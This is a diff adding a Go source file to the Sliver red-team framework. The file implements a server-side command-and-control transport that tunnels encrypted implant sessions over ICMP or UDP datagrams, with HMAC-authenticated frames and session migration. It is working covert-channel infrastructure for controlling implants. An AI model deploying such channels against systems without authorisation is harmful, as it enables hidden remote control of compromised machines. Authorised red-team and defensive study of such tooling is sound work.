@@ -0,0 +1,438 @@
+package c2
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	insecureRand "math/rand"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/cryptography"
+	"github.com/bishopfox/sliver/server/db"
+	sliverHandlers "github.com/bishopfox/sliver/server/handlers"
+	"github.com/sirupsen/logrus"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	// Must match the implant's icmpclient and udpclient
+	datagramFrameMagic      = 0x51c3
+	datagramFrameHeaderSize = 11
+	datagramFrameInit       = 1
+	datagramFrameInitReply  = 2
+	datagramFrameData       = 3
+	datagramFrameDataReply  = 4
+	datagramFrameClose      = 5
+	datagramFrameMACSize    = 16
+	datagramMaxChunkSize    = 1024
+
+	// Implants poll every second or so, one that's been quiet this long is gone
+	datagramSessionTimeout = 5 * time.Minute
+)
+
+var (
+	// ErrInvalidFrame - Not one of our frames
+	ErrInvalidFrame = errors.New("invalid frame")
+)
+
+// datagramC2 - Sessions tunneled through request/reply datagrams (icmp, udp), every
+// frame carries the session id and replies go to wherever the frame came from, so
+// a session isn't tied to the implant's address. Once the session is started its
+// frames are authenticated with a mac keyed from the session key, the session id
+// alone isn't enough to move a session or inject data into it.
+type datagramC2 struct {
+	transport string
+	log       *logrus.Entry
+	sessions  map[uint32]*DatagramSession
+	inits     map[uint32]*DatagramSession // Init nonce -> session, for retransmitted inits
+	mutex     sync.Mutex
+	done      chan struct{}
+}
+
+// DatagramSession - An implant session tunneled through datagrams, the implant
+// sends one frame at a time and retransmits it until it gets a reply
+type DatagramSession struct {
+	ID          uint32
+	ImplantConn *core.ImplantConnection
+	CipherCtx   *cryptography.CipherContext
+
+	log        *logrus.Entry
+	macKey     []byte
+	initNonce  uint32
+	initReply  []byte
+	lastSeq    uint32
+	lastReply  []byte
+	lastSeen   time.Time
+	lastAddr   string
+	upstream   []byte
+	downstream []byte
+	incoming   chan []byte
+	mutex      sync.Mutex
+	done       chan struct{}
+}
+
+func newDatagramC2(transport string, log *logrus.Entry) *datagramC2 {
+	server := &datagramC2{
+		transport: transport,
+		log:       log,
+		sessions:  map[uint32]*DatagramSession{},
+		inits:     map[uint32]*DatagramSession{},
+		done:      make(chan struct{}),
+	}
+	go server.reapSessions()
+	return server
+}
+
+// closeSessions - Stop reaping and drop all of the sessions
+func (s *datagramC2) closeSessions() {
+	close(s.done)
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	for _, session := range s.sessions {
+		s.removeSession(session)
+	}
+}
+
+// handleFrame - Returns the reply frame, if any
+func (s *datagramC2) handleFrame(addr net.Addr, frameType uint8, sessionID uint32, seq uint32, data []byte) []byte {
+	switch frameType {
+	case datagramFrameInit:
+		s.mutex.Lock()
+		session, ok := s.inits[sessionID]
+		s.mutex.Unlock()
+		if !ok {
+			var err error
+			session, err = s.startSession(addr, sessionID, data)
+			if err != nil {
+				s.log.Warnf("Failed to start session from %s: %s", addr, err)
+				return nil
+			}
+		}
+		return datagramFrame(datagramFrameInitReply, sessionID, seq, session.initReply)
+
+	case datagramFrameData:
+		s.mutex.Lock()
+		session, ok := s.sessions[sessionID]
+		s.mutex.Unlock()
+		if !ok {
+			return nil
+		}
+		data, ok = session.open(frameType, seq, data)
+		if !ok {
+			s.log.Warnf("Session %d frame from %s failed to authenticate", sessionID, addr)
+			return nil
+		}
+		reply, fresh, ok := session.exchange(seq, data)
+		if !ok {
+			return nil
+		}
+		// Retransmissions can be replayed by anyone who saw them, only a frame
+		// with the next seq moves the session
+		if fresh && session.migrated(addr) {
+			s.log.Infof("Session %d migrated to %s", sessionID, addr)
+		}
+		return session.seal(datagramFrameDataReply, seq, reply)
+
+	case datagramFrameClose:
+		s.mutex.Lock()
+		defer s.mutex.Unlock()
+		session, ok := s.sessions[sessionID]
+		if !ok {
+			return nil
+		}
+		if _, ok := session.open(frameType, seq, data); !ok {
+			s.log.Warnf("Session %d close from %s failed to authenticate", sessionID, addr)
+			return nil
+		}
+		s.log.Infof("Session %d closed by implant", sessionID)
+		s.removeSession(session)
+	}
+	return nil
+}
+
+// startSession - The init frame is the session key, encrypted to the server
+// the same way the http(s) session init is
+func (s *datagramC2) startSession(addr net.Addr, nonce uint32, data []byte) (*DatagramSession, error) {
+	if len(data) < 32 {
+		return nil, ErrInvalidFrame
+	}
+	var publicKeyDigest [32]byte
+	copy(publicKeyDigest[:], data[:32])
+	implantConfig, err := db.ImplantConfigByECCPublicKeyDigest(publicKeyDigest)
+	if err != nil || implantConfig == nil {
+		return nil, errors.New("unknown public key")
+	}
+	publicKey, err := base64.RawStdEncoding.DecodeString(implantConfig.ECCPublicKey)
+	if err != nil || len(publicKey) != 32 {
+		return nil, errors.New("failed to decode public key")
+	}
+	var senderPublicKey [32]byte
+	copy(senderPublicKey[:], publicKey)
+	serverKeyPair := cryptography.ECCServerKeyPairFor(implantConfig.ECCServerPublicKey)
+	sessionKey, err := cryptography.ECCDecrypt(&senderPublicKey, serverKeyPair.Private, data[32:])
+	if err != nil {
+		return nil, err
+	}
+	sKey, err := cryptography.KeyFromBytes(sessionKey)
+	if err != nil {
+		return nil, err
+	}
+
+	session := &DatagramSession{
+		ImplantConn: core.NewImplantConnection(s.transport, addr.String()),
+		CipherCtx:   cryptography.NewCipherContext(sKey),
+		log:         s.log,
+		macKey:      datagramFrameKey(sessionKey),
+		initNonce:   nonce,
+		lastSeen:    time.Now(),
+		lastAddr:    addr.String(),
+		incoming:    make(chan []byte, 64),
+		done:        make(chan struct{}),
+	}
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	for session.ID == 0 || s.sessions[session.ID] != nil {
+		session.ID = insecureRand.Uint32()
+	}
+	sessionID := make([]byte, 4)
+	binary.BigEndian.PutUint32(sessionID, session.ID)
+	session.initReply, err = session.CipherCtx.Encrypt(sessionID)
+	if err != nil {
+		return nil, err
+	}
+	s.sessions[session.ID] = session
+	s.inits[nonce] = session
+	go session.forwardIncoming()
+	go session.forwardOutgoing()
+	s.log.Infof("Started new %s session %d from %s", s.transport, session.ID, addr)
+	return session, nil
+}
+
+// removeSession - Caller must hold the mutex
+func (s *datagramC2) removeSession(session *DatagramSession) {
+	delete(s.sessions, session.ID)
+	delete(s.inits, session.initNonce)
+	close(session.done)
+	session.ImplantConn.Cleanup()
+}
+
+func (s *datagramC2) reapSessions() {
+	ticker := time.NewTicker(time.Minute)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-s.done:
+			return
+		case <-ticker.C:
+			s.mutex.Lock()
+			for _, session := range s.sessions {
+				if session.idle() {
+					s.log.Infof("Session %d timed out", session.ID)
+					s.removeSession(session)
+				}
+			}
+			s.mutex.Unlock()
+		}
+	}
+}
+
+func (s *DatagramSession) idle() bool {
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	return datagramSessionTimeout < time.Since(s.lastSeen)
+}
+
+// migrated - Remember where the last frame came from, returns true if the implant
+// moved to another address (e.g. NAT rebinding or a new network interface)
+func (s *DatagramSession) migrated(addr net.Addr) bool {
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	if addr.String() == s.lastAddr {
+		return false
+	}
+	s.lastAddr = addr.String()
+	return true
+}
+
+// open - Check and strip the mac of one of the session's frames
+func (s *DatagramSession) open(frameType uint8, seq uint32, data []byte) ([]byte, bool) {
+	if len(data) < datagramFrameMACSize {
+		return nil, false
+	}
+	payload := data[:len(data)-datagramFrameMACSize]
+	mac := datagramFrameMAC(s.macKey, datagramFrame(frameType, s.ID, seq, payload))
+	return payload, hmac.Equal(mac, data[len(payload):])
+}
+
+// seal - A reply frame with its mac
+func (s *DatagramSession) seal(frameType uint8, seq uint32, data []byte) []byte {
+	frame := datagramFrame(frameType, s.ID, seq, data)
+	return append(frame, datagramFrameMAC(s.macKey, frame)...)
+}
+
+// exchange - Take the implant's next chunk and reply with our next chunk, a
+// retransmission of the last frame gets the same reply again. Returns false for
+// frames that are out of sequence, fresh is false for retransmissions
+func (s *DatagramSession) exchange(seq uint32, data []byte) ([]byte, bool, bool) {
+	s.mutex.Lock()
+	if seq == s.lastSeq && s.lastReply != nil {
+		defer s.mutex.Unlock()
+		return s.lastReply, false, true
+	}
+	if seq != s.lastSeq+1 {
+		s.mutex.Unlock()
+		return nil, false, false
+	}
+	s.lastSeen = time.Now()
+	s.upstream = append(s.upstream, data...)
+	chunk := s.downstream
+	if datagramMaxChunkSize < len(chunk) {
+		chunk = chunk[:datagramMaxChunkSize]
+	}
+	s.downstream = s.downstream[len(chunk):]
+	s.lastSeq = seq
+	s.lastReply = append([]byte{}, chunk...)
+	reply := s.lastReply
+	messages := s.completeMessages()
+	s.mutex.Unlock()
+
+	for _, message := range messages {
+		select {
+		case s.incoming <- message:
+		case <-s.done:
+		}
+	}
+	return reply, true, true
+}
+
+// completeMessages - Pop the fully received messages, caller must hold the mutex
+func (s *DatagramSession) completeMessages() [][]byte {
+	messages := [][]byte{}
+	for 4 <= len(s.upstream) {
+		size := int(binary.LittleEndian.Uint32(s.upstream))
+		if len(s.upstream) < 4+size {
+			break
+		}
+		messages = append(messages, s.upstream[4:4+size])
+		s.upstream = s.upstream[4+size:]
+	}
+	return messages
+}
+
+// forwardIncoming - Pass the implant's envelopes on in the order they arrived
+func (s *DatagramSession) forwardIncoming() {
+	handlers := sliverHandlers.GetHandlers()
+	for {
+		var ciphertext []byte
+		select {
+		case <-s.done:
+			return
+		case ciphertext = <-s.incoming:
+		}
+		plaintext, err := s.CipherCtx.Decrypt(ciphertext)
+		if err != nil {
+			s.log.Errorf("Failed to decrypt message: %s", err)
+			continue
+		}
+		envelope := &sliverpb.Envelope{}
+		err = proto.Unmarshal(plaintext, envelope)
+		if err != nil {
+			s.log.Errorf("Failed to unmarshal message: %s", err)
+			continue
+		}
+		s.ImplantConn.UpdateLastMessage()
+		if envelope.ID != 0 {
+			s.ImplantConn.RespMutex.RLock()
+			if resp, ok := s.ImplantConn.Resp[envelope.ID]; ok {
+				resp <- envelope
+			}
+			s.ImplantConn.RespMutex.RUnlock()
+		} else if handler, ok := handlers[envelope.Type]; ok {
+			respEnvelope := handler(s.ImplantConn, envelope.Data)
+			if respEnvelope != nil {
+				go func() {
+					s.ImplantConn.Send <- respEnvelope
+				}()
+			}
+		}
+	}
+}
+
+// forwardOutgoing - Queue envelopes for the implant to pick up with its polls
+func (s *DatagramSession) forwardOutgoing() {
+	for {
+		select {
+		case <-s.done:
+			return
+		case envelope := <-s.ImplantConn.Send:
+			data, _ := proto.Marshal(envelope)
+			ciphertext, err := s.CipherCtx.Encrypt(data)
+			if err != nil {
+				s.log.Errorf("Failed to encrypt message: %s", err)
+				continue
+			}
+			message := make([]byte, 4+len(ciphertext))
+			binary.LittleEndian.PutUint32(message, uint32(len(ciphertext)))
+			copy(message[4:], ciphertext)
+			s.mutex.Lock()
+			s.downstream = append(s.downstream, message...)
+			s.mutex.Unlock()
+		}
+	}
+}
+
+// datagramFrameKey - The mac key is derived from the session key so it's never
+// used for both the cipher and the mac
+func datagramFrameKey(sessionKey []byte) []byte {
+	mac := hmac.New(sha256.New, sessionKey)
+	mac.Write([]byte("datagram frame mac"))
+	return mac.Sum(nil)
+}
+
+// datagramFrameMAC - Truncated hmac-sha256 of the frame, header included
+func datagramFrameMAC(key []byte, frame []byte) []byte {
+	mac := hmac.New(sha256.New, key)
+	mac.Write(frame)
+	return mac.Sum(nil)[:datagramFrameMACSize]
+}
+
+func datagramFrame(frameType uint8, session uint32, seq uint32, data []byte) []byte {
+	frame := make([]byte, datagramFrameHeaderSize+len(data))
+	binary.BigEndian.PutUint16(frame, datagramFrameMagic)
+	frame[2] = frameType
+	binary.BigEndian.PutUint32(frame[3:], session)
+	binary.BigEndian.PutUint32(frame[7:], seq)
+	copy(frame[datagramFrameHeaderSize:], data)
+	return frame
+}
+
+func parseDatagramFrame(frame []byte) (uint8, uint32, uint32, []byte, error) {
+	if len(frame) < datagramFrameHeaderSize || binary.BigEndian.Uint16(frame) != datagramFrameMagic {
+		return 0, 0, 0, nil, ErrInvalidFrame
+	}
+	return frame[2], binary.BigEndian.Uint32(frame[3:]), binary.BigEndian.Uint32(frame[7:]), frame[datagramFrameHeaderSize:], nil
+}